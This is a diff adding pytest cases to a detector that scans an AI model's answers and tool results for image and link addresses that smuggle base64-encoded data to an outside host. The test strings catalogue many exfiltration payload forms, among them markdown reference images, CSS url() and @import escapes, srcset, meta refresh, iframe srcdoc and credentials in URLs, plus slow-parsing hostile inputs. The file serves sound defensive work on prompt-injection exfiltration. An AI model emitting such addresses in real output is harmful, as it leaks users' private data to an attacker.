@@ -134,7 +134,30 @@ def test_address_in_quotes_is_read_as_a_browser_reads_it(url):
         (f'@import "//{HOST}/?d={BASE64}";', f"//{HOST}/?d={BASE64}"),
         (rf'a {{background: url("\68 ttps\3a //{HOST}/?d={BASE64}")}}', rf"\68 ttps\3a //{HOST}/?d={BASE64}"),
         (rf"a {{background: url(\00002f\2f {HOST}/?\d={BASE64})}}", rf"\00002f\2f {HOST}/?\d={BASE64}"),
+        (f'<img srcset="a.png 1x,//{HOST}/?d={BASE64} 2x">', f"//{HOST}/?d={BASE64}"),
+        (f'<img srcset="a.png 1x,,//{HOST}/?d={BASE64} 2x">', f"//{HOST}/?d={BASE64}"),
+        (rf'a {{background: url("//{HOST}/\"?d={BASE64}")}}', rf"//{HOST}/\"?d={BASE64}"),
+        (rf"@import '{OUT}/\'?d={BASE64}'", rf"{OUT}/\'?d={BASE64}"),
+        (f'<p style="a: src=x;background:url(//{HOST}/?d={BASE64})">', f"//{HOST}/?d={BASE64}"),
+        (rf"a {{background: u\72l(//{HOST}/?d={BASE64})}}", f"//{HOST}/?d={BASE64}"),
+        (rf'@\00069 mpor\t "//{HOST}/?d={BASE64}"', f"//{HOST}/?d={BASE64}"),
+        (f'@import/**/"//{HOST}/?d={BASE64}"', f"//{HOST}/?d={BASE64}"),
+        (f"a {{background: image-set('//{HOST}/?d={BASE64}' 1x)}}", f"//{HOST}/?d={BASE64}"),
+        # Entities around an address: a style and a page within a page are read without them.
+        (f'<p style="background: url(&quot;{OUT}/?d={BASE64}&quot;)">', f"{OUT}/?d={BASE64}"),
+        (f'<p style="background: &#117;rl(//{HOST}/?d={BASE64})">', f"//{HOST}/?d={BASE64}"),
+        (f'<iframe srcdoc="&lt;img src=&quot;//{HOST}/?d={BASE64}&quot;&gt;">', f"//{HOST}/?d={BASE64}"),
+        (f'<meta content="0;&#117;rl=//{HOST}/?d={BASE64}">', f"&#117;rl=//{HOST}/?d={BASE64}"),
+        (f'<meta content="&#48;;url=//{HOST}/?d={BASE64}">', f"&#48;;url=//{HOST}/?d={BASE64}"),
+        (f"<meta content='0;url=&quot;//{HOST}/?d={BASE64}&quot;'>", f"&quot;//{HOST}/?d={BASE64}&quot;"),
         # Markdown: escapes, parentheses within, however many blanks.
+        (f"![x]({OUT}/{'(' * 32}a{')' * 32}?d={BASE64})", f"{OUT}/{'(' * 32}a{')' * 32}?d={BASE64}"),
+        (rf"![x][r]\n\n[r]: <{OUT}/\>?d={BASE64}>".replace(r"\n", "\n"), rf"{OUT}/\>?d={BASE64}"),
+        (f"![x][r]\n\n> [r]: //{HOST}/?d={BASE64}", f"//{HOST}/?d={BASE64}"),
+        (f"![x][r]\n\n> 1. - [r]: //{HOST}/?d={BASE64}", f"//{HOST}/?d={BASE64}"),
+        (f"![x][r\\]]\n\n[r\\]]: //{HOST}/?d={BASE64}", f"//{HOST}/?d={BASE64}"),
+        (f"![x][r\ns]\n\n[r\ns]: //{HOST}/?d={BASE64}", f"//{HOST}/?d={BASE64}"),
+        (f"![{'r' * 999}]\n\n[{'r' * 999}]: //{HOST}/?d={BASE64}", f"//{HOST}/?d={BASE64}"),
         (rf"![x](https\:\/\/{HOST}/?d={BASE64})", rf"https\:\/\/{HOST}/?d={BASE64}"),
         (rf"![x](/\{HOST}/?d={BASE64})", rf"/\{HOST}/?d={BASE64}"),
         (rf"![x]({OUT}/\)?d={BASE64})", rf"{OUT}/\)?d={BASE64}"),
@@ -146,6 +169,62 @@ def test_address_in_quotes_is_read_as_a_browser_reads_it(url):
 )
 def test_address_is_found_whole_in_the_syntax_of_its_place(text, url):
     assert (seen(text), found(text)) == ([("image", 0.99)], [url])
+
+
+@pytest.mark.parametrize(
+    "around",
+    [
+        "?q=@!",
+        "?q=,@",
+        "?q=%22@%22",
+        "?q=%28@%29",
+        "?q=x.@",
+        "@,/i.png",
+        "?@",
+        "?@==",
+        "?@=1",
+        "?q=@=@",
+        "?q=%2525@%2525",
+    ],
+)
+def test_what_is_encoded_is_read_whatever_signs_stand_beside_it_and_in_a_field_s_name(around):
+    url = f"{OUT}/{around.replace('@', BASE64.rstrip('='))}"
+    text = f"![x]({url})"
+    assert (seen(text), found(text)) == ([("image", 0.99)], [url])
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        "/?the+user+wants+to+leave+her+husband=1",
+        "/?q=the%2520user%2520wants%2520to%2520leave%2520her%2520husband",
+        "/the%2520user%2520wants%2520to%2520leave%2520her%2520husband",
+    ],
+)
+def test_sentence_is_read_in_a_field_s_name_and_where_it_is_encoded_twice(path):
+    assert seen(f"![x]({OUT}{path})") == [("image", 0.9)]
+
+
+def test_what_is_encoded_in_short_pieces_is_read_as_one():
+    pieces = [BASE64[at : at + 16] for at in range(0, len(BASE64), 16)]
+    query = "&".join(f"a{n}={piece}" for n, piece in enumerate(pieces))
+    assert seen(f"![x]({OUT}/?{query}) [x]({OUT}/{'/'.join(pieces)})") == [("image", 0.99), ("link", 0.9)]
+
+
+@pytest.mark.parametrize("login", ["[", "a[b", "a]b", "user:[x]", "\u2100"])
+def test_signs_in_a_user_name_hide_no_address(login):
+    for text in (f"![x](https://{login}@{HOST}/?d={BASE64})", f'<img src="//{login}@{HOST}/?d={BASE64}">'):
+        assert seen(text) == [("image", 0.99)]
+
+
+def test_user_name_carries_as_much_as_a_path():
+    name = BASE64.rstrip("=")
+    assert seen(f"![x](https://{name}@{HOST}/) [x](https://a:{name}@{HOST}/)") == [("image", 0.99), ("link", 0.9)]
+
+
+@pytest.mark.parametrize("stop", "\u3002\uff0e\uff61")
+def test_full_stops_of_other_scripts_part_an_address_too(stop):
+    assert seen(f"![a](https://{stop.join('1111')}/a.png)") == [("image", 0.6)]
 
 
 @pytest.mark.parametrize("break_", ["\n", "\r\n", "\t", "&NewLine;"])
@@ -251,6 +330,14 @@ def test_what_an_address_is_counts_in_a_link_too(url, score):
         "url(#gradient) url('../fonts/a.woff2') @import 'base.css'; <meta content=\"width=device-width, initial-scale=1\">",
         '<meta name="description" content="10 ways to say: what a user wants to know"> data="a: b" \\\\server\\share',
         "The attribute src='' is empty, and href=\" is not closed; it's what the user of the page wants, isn't it?",
+        '<a href="javascript:void(0) ;">x</a> <a href="javascript: void ( 0 ) ; ">x</a>',
+        'content = "// This file is generated automatically, do not edit it by hand because changes will be lost";',
+        '<meta name="description" content="//TODO describe the page in a few words so that search engines find it">',
+        'See `src="//` for an address without a scheme. Then, in the next paragraph, we go on about other things.',
+        'Use `<a href="https://` and then the host name that you want, and many other words that follow it here.',
+        "'<img src=\"https://' + host + '/img/' + name + ' of the user who asked for it many times'",
+        "![a](https://cdn.example.com/a/b/c/1/2/3/img.png?w=120&h=80&fit=crop&auto=format&q=75&dpr=2&crop=faces)",
+        "[a](https://<username>:<password>@db.example.com/x) [a](https://[username]:[password]@db.example.com/x)",
         '<img src="&#' + "1" * 5_000 + ";&#" + "0" * 5_000 + ';">',
     ],
 )
@@ -336,6 +423,18 @@ def test_ordinary_addresses_among_unseen_and_other_characters_are_no_finding(tex
 def test_only_answers_and_tool_results_are_read():
     text = f"![x]({OUT}/?d={BASE64})"
     assert [len(find(text, "", Stage.INPUT, role)) for role in ("user", "system", "tool", "function")] == [0, 0, 1, 1]
+
+
+def test_address_in_what_only_looks_like_one_is_found():
+    url = f"{OUT}/?d={BASE64}"
+    text = f'content = "// see ({url})"'
+    assert (seen(text), found(text)) == ([("link", 0.9)], [url])
+
+
+def test_address_in_escaped_html_is_found_without_the_entities_that_end_it():
+    url = "https://user:pw1@files.example.com/"
+    text = f"&lt;a href=&quot;{url}&quot;&gt;x&lt;/a&gt;"
+    assert (seen(text), found(text)) == ([("link", 0.6)], [url])
 
 
 def test_detail_never_holds_the_address():
@@ -449,6 +548,28 @@ def test_image_is_found_whatever_stands_around_it(before, after):
 @pytest.mark.parametrize("head", ["", "![x](https://a.b/?q=", "https://"])
 def test_time_grows_with_the_length_and_no_faster(unit, head, grows_with_its_length):
     assert grows_with_its_length(find, unit, before=head)
+
+
+@pytest.mark.parametrize(
+    ("head", "unit"),
+    [
+        *((head, sign) for head in ('<a href="javascript:void', "[a](javascript:void") for sign in (" ", "&#32;")),
+        *(("https://xn--" + "a" * 30_000 + "-", unit) for unit in ("9", "b7q")),
+        *(
+            ("", unit)
+            for unit in ("](a((b)", "](a(](b)", "\n> [a", "\n[a\\[", "][\\[", "![a", "\n> - 1. ", "@import/*")
+        ),
+        *(
+            ("", unit)
+            for unit in (r"u\72l(", r"\75 rl(\"", r'url("\"', "image-set('", "&quot;", 'src="&#34;', "0;url=&#")
+        ),
+        *(("<img srcset='", unit) for unit in ("1x,", ",", " 1x,//a", "a, ")),
+        *(('<img src="https://a.b/', unit) for unit in ("%25", "?a=b&", "b/", "[@", "//[@", "A1b2C3,", "a=A1b2")),
+        *(('<img src="https://', unit) for unit in ("[", "a:", "%40", "//", " ", "\u3002")),
+    ],
+)
+def test_hostile_pieces_behind_what_reads_them_cost_no_more(head, unit, grows_with_its_length):
+    assert grows_with_its_length(find, unit, before=head, after='x">')
 
 
 @pytest.mark.parametrize("unit", ["src='", " src=a", "url('", "&#0", "\n", "https://a.b/?c=d ", "](//a/("])
